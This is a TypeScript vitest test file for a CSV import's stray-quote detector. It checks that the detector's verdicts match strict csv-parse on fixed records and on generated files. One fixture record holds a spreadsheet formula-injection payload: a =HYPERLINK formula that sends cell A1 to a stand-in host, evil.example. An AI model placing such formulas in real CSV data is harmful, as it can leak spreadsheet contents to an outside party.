import { parse as parseSync } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import type { CsvQuoteProblem } from "./row-problems";
import { recordText, strayQuote } from "./stray-quote";

/** A problem strayQuote finds, worded as csv-parse words its error of that code (without the position). */
function csvParseWording(problem: CsvQuoteProblem): string {
  switch (problem.code) {
    case "CSV_INVALID_OPENING_QUOTE":
      return `Invalid Opening Quote: a quote is found on field ${problem.field}`;
    case "CSV_INVALID_CLOSING_QUOTE":
      return `Invalid Closing Quote: got "${problem.got}"`;
    case "CSV_QUOTE_NOT_CLOSED":
      return "Quote Not Closed: the parsing is finished with an opening quote";
  }
}

// csv-parse's options as the import reads a file (run.ts), strictly or with relax_quotes
const options = (delimiter: string, lineEnding: string) => ({ delimiter, record_delimiter: lineEnding, from_line: 2, relax_column_count: true, skip_empty_lines: true });

/** What csv-parse reading strictly says of the file's first bad quote, without its position. */
function strictCsvParse(file: string, delimiter: string, lineEnding: string): string | null {
  try {
    parseSync(file, options(delimiter, lineEnding));
    return null;
  } catch (err) {
    return (err as Error).message.replace(/\s*at line \d+.*$/s, "");
  }
}

/**
 * What the import says of the file's first bad quote: each record read with relax_quotes, its text
 * cut from csv-parse's raw and given to strayQuote. undefined when the relaxed read fails too (a quote
 * open to the end of the file, which the import rejects from csv-parse's own error).
 */
function importVerdict(file: string, delimiter: string, lineEnding: string): string | null | undefined {
  let records: { raw: string; info: { empty_lines: number } }[];
  try {
    records = parseSync(file, { ...options(delimiter, lineEnding), relax_quotes: true, raw: true, info: true }) as unknown as typeof records;
  } catch {
    return undefined;
  }
  let emptyLines = 0;
  for (const { raw, info } of records) {
    const stray = strayQuote(recordText(raw, info.empty_lines - emptyLines, lineEnding), delimiter);
    emptyLines = info.empty_lines;
    if (stray) return csvParseWording(stray);
  }
  return null;
}

const records = [
  "q1,q1@example.com\n",
  'q2,=HYPERLINK("http://evil.example/?"&A1;"click")\n',
  'q3,x@exa"mple.com\n',
  'a"b\n',
  '"a"b,c\n',
  'q5,"two\nlines"x,y\n',
  '"Smith, John","a ""quoted"" word",""\n',
  '"",x,"""a"""\n',
  'x,"multi\r\nline",y\r\n',
  '"a" ,b\n',
  'x,"a"\n',
  'x,"a"',
  'u,a' + '"'.repeat(50) + "\n",
  'u,"a' + '"x'.repeat(20) + '"\n',
  "a;b\"c;d\n",
  '"a;b";"c"d\n',
  '\n"a",b\n',
  '\n\n"a";"b"\n',
  'x,"a"\r\n',
];

describe("strayQuote", () => {
  it.each(records)("finds in %j the quote csv-parse refuses when reading strictly", (record) => {
    const delimiter = record.includes(";") ? ";" : ",";
    const file = `h${delimiter}i\n${record}`;
    expect(importVerdict(file, delimiter, "\n")).toBe(strictCsvParse(file, delimiter, "\n"));
  });

  it.each([
    ["\r\n", 'x,"a"\r\ny,"b"\n', 'Invalid Closing Quote: got "\n"'],
    ["\r\n", '\r\n\r\n"a",b\r\n', null],
    ["\r\n", '\r"a",b\r\n', "Invalid Opening Quote: a quote is found on field 0"],
    ["\n", 'x,"a"\r\ny,b\n', 'Invalid Closing Quote: got "\r"'],
    ["\n", '\n\n"a","b"\n"c",d', null],
  ])("takes only the file's line ending (%j) after a closing quote and skips blank lines: %j", (lineEnding, body, expected) => {
    const file = `h,i${lineEnding}${body}`;
    expect(strictCsvParse(file, ",", lineEnding)).toBe(expected);
    expect(importVerdict(file, ",", lineEnding)).toBe(expected);
  });

  // generated files of a few short records from the characters that matter (quotes, delimiters,
  // both line breaks, blank lines): the import's verdict is strict csv-parse's on every one
  it.each([
    ["LF", "\n", ","],
    ["CRLF", "\r\n", ","],
    ["CRLF, semicolons", "\r\n", ";"],
  ])("agrees with strict csv-parse on 20,000 generated files (%s)", (_, lineEnding, delimiter) => {
    let seed = 42;
    const random = (n: number) => ((seed = (seed * 1103515245 + 12345) % 2147483648) >>> 8) % n;
    const pieces = ['"', '"', '"', '""', delimiter, "a", "b", "\n", "\r", "\r\n", lineEnding, " "];
    let compared = 0;
    for (let n = 0; n < 20_000; n++) {
      let file = `h${delimiter}i${lineEnding}`;
      for (let r = 1 + random(3); r > 0; r--) {
        for (let len = random(8); len > 0; len--) file += pieces[random(pieces.length)];
        file += lineEnding;
      }
      if (random(4) === 0) file = file.slice(0, -lineEnding.length);
      const verdict = importVerdict(file, delimiter, lineEnding);
      if (verdict === undefined) continue;
      compared++;
      if (verdict !== strictCsvParse(file, delimiter, lineEnding)) expect({ file, verdict }).toEqual({ file, verdict: strictCsvParse(file, delimiter, lineEnding) });
    }
    expect(compared).toBeGreaterThan(10_000);
  });
});
